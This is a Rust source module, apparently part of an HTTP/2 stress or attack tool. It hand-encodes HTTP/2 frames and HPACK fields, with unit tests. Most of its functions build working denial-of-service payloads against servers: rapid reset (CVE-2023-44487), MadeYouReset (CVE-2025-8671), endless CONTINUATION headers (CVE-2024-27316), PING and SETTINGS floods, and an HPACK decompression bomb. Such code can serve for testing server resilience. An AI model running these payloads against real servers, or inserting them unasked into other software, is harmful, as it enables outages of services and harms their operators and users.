//! Frames of HTTP/2, written by ourselves, so that what no library would send can be sent (RFC 9113, RFC 7541).
//!
//! ```text
//! +-----------------------------------------------+
//! |                 Length (24)                   |
//! +---------------+---------------+---------------+
//! |   Type (8)    |   Flags (8)   |
//! +-+-------------+---------------+-------------------------------+
//! |R|                 Stream identifier (31)                      |
//! +=+=============================================================+
//! |                   Payload (0…)                              ...
//! +---------------------------------------------------------------+
//! ```
//!
//! Pure: everything here makes or reads bytes.

/// What a client says first (RFC 9113 section 3.4).
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Bytes of a frame's header.
pub(crate) const HEAD: usize = 9;
/// Greatest payload that everyone takes unasked (RFC 9113 section 4.2).
pub(crate) const PAYLOAD_MAX: usize = 16_384;

/// Types of frames (RFC 9113 section 6).
pub(crate) mod kind {
    pub(crate) const DATA: u8 = 0;
    pub(crate) const HEADERS: u8 = 1;
    pub(crate) const RST_STREAM: u8 = 3;
    pub(crate) const SETTINGS: u8 = 4;
    pub(crate) const PING: u8 = 6;
    pub(crate) const GOAWAY: u8 = 7;
    pub(crate) const WINDOW_UPDATE: u8 = 8;
    pub(crate) const CONTINUATION: u8 = 9;
}

/// Flags of frames.
pub(crate) mod flag {
    pub(crate) const ACK: u8 = 1;
    pub(crate) const END_STREAM: u8 = 1;
    pub(crate) const END_HEADERS: u8 = 4;
}

/// Error code of a stream that nobody wants any more (RFC 9113 section 7).
pub(crate) const CANCEL: u32 = 8;
/// `SETTINGS_INITIAL_WINDOW_SIZE` (RFC 9113 section 6.5.2).
pub(crate) const INITIAL_WINDOW: u16 = 4;
/// `SETTINGS_HEADER_TABLE_SIZE`.
pub(crate) const TABLE_SIZE: u16 = 1;

/// Appends a frame. A payload longer than 24 bits can say is cut.
pub(crate) fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let payload = &payload[..payload.len().min(0xff_ffff)];
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    out.extend_from_slice(&[a, b, c, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// Appends a `SETTINGS` frame.
pub(crate) fn settings(out: &mut Vec<u8>, values: &[(u16, u32)]) {
    let mut payload = Vec::with_capacity(6 * values.len());
    for (name, value) in values {
        payload.extend_from_slice(&name.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    frame(out, kind::SETTINGS, 0, 0, &payload);
}

/// Appends a `PING` that asks for an answer.
pub(crate) fn ping(out: &mut Vec<u8>, number: u64) {
    frame(out, kind::PING, 0, 0, &number.to_be_bytes());
}

/// Appends an `RST_STREAM`.
pub(crate) fn reset(out: &mut Vec<u8>, stream: u32) {
    frame(out, kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
}

/// Appends a `WINDOW_UPDATE`. An increment of 0 is an error of the stream (RFC 9113 section 6.9): a peer that meets it
/// must reset the stream itself, which is what MadeYouReset wants.
pub(crate) fn window_update(out: &mut Vec<u8>, stream: u32, increment: u32) {
    frame(out, kind::WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
}

/// Appends `HEADERS`, whole and without a body.
pub(crate) fn headers(out: &mut Vec<u8>, stream: u32, block: &[u8]) {
    frame(out, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, block);
}

/// Appends an integer with a prefix of `bits` bits, below the bits of `first` (RFC 7541 section 5.1).
pub(crate) fn integer(out: &mut Vec<u8>, first: u8, bits: u8, value: u64) {
    let most = (1_u64 << bits) - 1;
    if value < most {
        out.push(first | value as u8);
        return;
    }
    out.push(first | most as u8);
    let mut rest = value - most;
    while rest >= 128 {
        out.push(128 | (rest % 128) as u8);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// Appends a string as it is, without Huffman coding (RFC 7541 section 5.2).
pub(crate) fn string(out: &mut Vec<u8>, text: &[u8]) {
    integer(out, 0, 7, text.len() as u64);
    out.extend_from_slice(text);
}

/// Appends a field of the static or dynamic table (RFC 7541 section 6.1).
pub(crate) fn indexed(out: &mut Vec<u8>, index: u64) {
    integer(out, 0x80, 7, index);
}

/// Appends a field whose name is in the table and whose value is not kept (RFC 7541 section 6.2.2).
pub(crate) fn literal(out: &mut Vec<u8>, name: u64, value: &[u8]) {
    integer(out, 0, 4, name);
    string(out, value);
}

/// Appends a field with a name of its own, which the peer keeps in its table (RFC 7541 section 6.2.1).
pub(crate) fn kept(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x40);
    string(out, name);
    string(out, value);
}

/// The block of a `GET`. Indices are those of the static table (RFC 7541 appendix A): 2 `:method: GET`, 4 `:path`,
/// 6 `:scheme: http`, 7 `:scheme: https`, 1 `:authority`.
pub(crate) fn get(tls: bool, authority: &str, path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    indexed(&mut block, 2);
    indexed(&mut block, if tls { 7 } else { 6 });
    literal(&mut block, 1, authority.as_bytes());
    literal(&mut block, 4, path.as_bytes());
    block
}

/// A preface and settings under which the peer may send much.
pub(crate) fn opening() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    settings(&mut out, &[(INITIAL_WINDOW, 1 << 20)]);
    out
}

/// Requests on streams `first`, `first + 2`, …, each taken back at once: rapid reset (CVE-2023-44487).
pub(crate) fn rapid_reset(first: u32, count: u32, block: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for n in 0..count {
        headers(&mut out, first + 2 * n, block);
        reset(&mut out, first + 2 * n);
    }
    out
}

/// Requests whose streams the server must reset, because what follows each is an error: MadeYouReset (CVE-2025-8671).
/// Here in turn a window update of nothing, a window beyond 2³¹ − 1, and data after the end of the stream.
pub(crate) fn made_you_reset(first: u32, count: u32, block: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for n in 0..count {
        let stream = first + 2 * n;
        headers(&mut out, stream, block);
        match n % 3 {
            0 => window_update(&mut out, stream, 0),
            1 => window_update(&mut out, stream, 0x7fff_ffff),
            _ => frame(&mut out, kind::DATA, flag::END_STREAM, stream, b"late"),
        }
    }
    out
}

/// `HEADERS` without an end (CVE-2024-27316 and its kin): begins at `stream`, and goes on for `count` frames.
pub(crate) fn endless_headers(stream: u32, count: u32, block: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    if !block.is_empty() {
        frame(&mut out, kind::HEADERS, flag::END_STREAM, stream, block);
    }
    let mut more = Vec::new();
    for n in 0..8_u32 {
        more.push(0);
        string(&mut more, format!("x-{n}").as_bytes());
        string(&mut more, &[b'a'; 1_000]);
    }
    for _ in 0..count {
        frame(&mut out, kind::CONTINUATION, 0, stream, &more);
    }
    out
}

/// Pings, as many.
pub(crate) fn ping_flood(from: u64, count: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for n in 0..u64::from(count) {
        ping(&mut out, from + n);
    }
    out
}

/// Settings, as many, each of which must be acknowledged.
pub(crate) fn settings_flood(count: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for n in 0..count {
        settings(&mut out, &[(TABLE_SIZE, 4_096 - n % 2), (INITIAL_WINDOW, 65_535 + n % 2)]);
    }
    out
}

/// A request whose few bytes are many when they are unpacked: one long field is kept in the peer's table, and then named
/// by one byte again and again (an HPACK bomb). `first` is the stream of the request; the field is sent with `plant`.
pub(crate) fn bomb(first: u32, plant: bool, block: &[u8]) -> Vec<u8> {
    let mut fields = block.to_vec();
    if plant {
        // With 32 bytes of bookkeeping it just fits a table of 4096 (RFC 7541 section 4.1).
        kept(&mut fields, b"x-bomb", &[b'b'; 4_000]);
    }
    // The newest entry of the dynamic table follows the 61 of the static one.
    while fields.len() < PAYLOAD_MAX {
        indexed(&mut fields, 62);
    }
    let mut out = Vec::new();
    headers(&mut out, first, &fields);
    out
}

/// The header of a frame.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Head {
    pub(crate) length: usize,
    pub(crate) kind: u8,
    pub(crate) flags: u8,
    pub(crate) stream: u32,
}

impl Head {
    /// Reads it; `None` of fewer than nine bytes.
    pub(crate) fn read(bytes: &[u8]) -> Option<Self> {
        let [a, b, c, kind, flags, s0, s1, s2, s3] = *bytes.first_chunk::<HEAD>()?;
        let length = u32::from_be_bytes([0, a, b, c]) as usize;
        let stream = u32::from_be_bytes([s0, s1, s2, s3]) & 0x7fff_ffff;
        Some(Self { length, kind, flags, stream })
    }
}

/// Takes frames from the head of what was received, and leaves the rest. `each` sees the header and as much of the payload
/// as there is. Payloads are not kept: those that are cut are passed over as they come.
#[derive(Debug, Default)]
pub(crate) struct Reader {
    head: Vec<u8>,
    skip: usize,
}

impl Reader {
    /// Takes bytes.
    pub(crate) fn take(&mut self, mut bytes: &[u8], mut each: impl FnMut(Head)) {
        while !bytes.is_empty() {
            let skipped = self.skip.min(bytes.len());
            self.skip -= skipped;
            bytes = &bytes[skipped..];
            if self.skip > 0 {
                return;
            }
            let wanted = (HEAD - self.head.len()).min(bytes.len());
            self.head.extend_from_slice(&bytes[..wanted]);
            bytes = &bytes[wanted..];
            if let Some(head) = Head::read(&self.head) {
                self.head.clear();
                self.skip = head.length;
                each(head);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn heads(bytes: &[u8]) -> Vec<Head> {
        let mut heads = Vec::new();
        // In small pieces: nothing may depend on where they are cut.
        let mut reader = Reader::default();
        for piece in bytes.chunks(5) {
            reader.take(piece, |head| heads.push(head));
        }
        assert_eq!((reader.skip, reader.head.len()), (0, 0));
        heads
    }

    #[test]
    fn integers_are_as_in_the_examples_of_the_rfc() {
        // RFC 7541 appendix C.1.
        let of = |bits, value| {
            let mut out = Vec::new();
            integer(&mut out, 0, bits, value);
            out
        };
        assert_eq!(of(5, 10), [10]);
        assert_eq!(of(5, 1_337), [31, 154, 10]);
        assert_eq!(of(8, 42), [42]);
    }

    #[test]
    fn a_request_is_as_in_the_rfc() {
        // RFC 7541 appendix C.3.1 but for its literals, which are not kept here.
        let mut expected = vec![0x82, 0x86, 0x01, 0x0f];
        expected.extend_from_slice(b"www.example.com");
        expected.extend_from_slice(&[0x04, 0x01, b'/']);
        assert_eq!(get(false, "www.example.com", "/"), expected);
        assert_eq!(get(true, "www.example.com", "/")[1], 0x87);
    }

    #[test]
    fn frames_have_their_headers() {
        let mut out = Vec::new();
        ping(&mut out, 0x0102);
        assert_eq!(out, [0, 0, 8, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 2]);
        out.clear();
        settings(&mut out, &[(INITIAL_WINDOW, 9)]);
        assert_eq!(out, [0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 9]);
        out.clear();
        reset(&mut out, 0xffff_ffff);
        assert_eq!(out[5..9], [0x7f, 0xff, 0xff, 0xff]);
        assert_eq!(out[9..], [0, 0, 0, 8]);
    }

    #[test]
    fn what_is_opened_is_reset() {
        let block = get(false, "a", "/");
        let found = heads(&rapid_reset(5, 3, &block));
        let expected: Vec<_> = [5, 7, 9]
            .into_iter()
            .flat_map(|stream| [(kind::HEADERS, stream), (kind::RST_STREAM, stream)])
            .collect();
        assert_eq!(found.iter().map(|head| (head.kind, head.stream)).collect::<Vec<_>>(), expected);
        assert!(found.iter().all(|head| head.length <= PAYLOAD_MAX));
    }

    #[test]
    fn each_kind_of_provocation_has_its_turn() {
        let found = heads(&made_you_reset(1, 3, &get(false, "a", "/")));
        let kinds: Vec<_> = found.iter().map(|head| head.kind).collect();
        let (headers, update) = (kind::HEADERS, kind::WINDOW_UPDATE);
        assert_eq!(kinds, [headers, update, headers, update, headers, kind::DATA]);
        // None of them is a reset of ours.
        assert!(!kinds.contains(&kind::RST_STREAM));
    }

    #[test]
    fn headers_without_an_end_have_none() {
        let found = heads(&endless_headers(1, 4, &get(false, "a", "/")));
        assert_eq!(found.len(), 5);
        assert!(found.iter().all(|head| head.flags & flag::END_HEADERS == 0 && head.length <= PAYLOAD_MAX));
        assert_eq!(heads(&endless_headers(1, 2, &[])).len(), 2);
    }

    #[test]
    fn floods_are_as_large_as_was_asked() {
        assert!(heads(&ping_flood(0, 9)).iter().all(|head| head.kind == kind::PING && head.flags == 0));
        assert_eq!(heads(&ping_flood(0, 9)).len(), 9);
        let found = heads(&settings_flood(4));
        assert!(found.iter().all(|head| head.kind == kind::SETTINGS && head.flags & flag::ACK == 0));
        assert_eq!((found.len(), found[0].length), (4, 12));
    }

    #[test]
    fn a_bomb_is_small_and_says_much() {
        let block = get(false, "a", "/");
        let planted = bomb(1, true, &block);
        let found = heads(&planted);
        assert_eq!((found.len(), found[0].length), (1, PAYLOAD_MAX));
        let named = planted.iter().rev().take_while(|byte| **byte == 0xbe).count();
        // One byte each, about four thousand when unpacked.
        assert!(named > 12_000, "{named}");
        assert_eq!(heads(&bomb(3, false, &block))[0].stream, 3);
    }

    #[test]
    fn an_opening_is_preface_and_settings() {
        let opening = opening();
        let rest = opening.strip_prefix(PREFACE).unwrap();
        assert_eq!(heads(rest)[0].kind, kind::SETTINGS);
        assert_eq!(Head::read(&rest[..8]), None);
    }
}
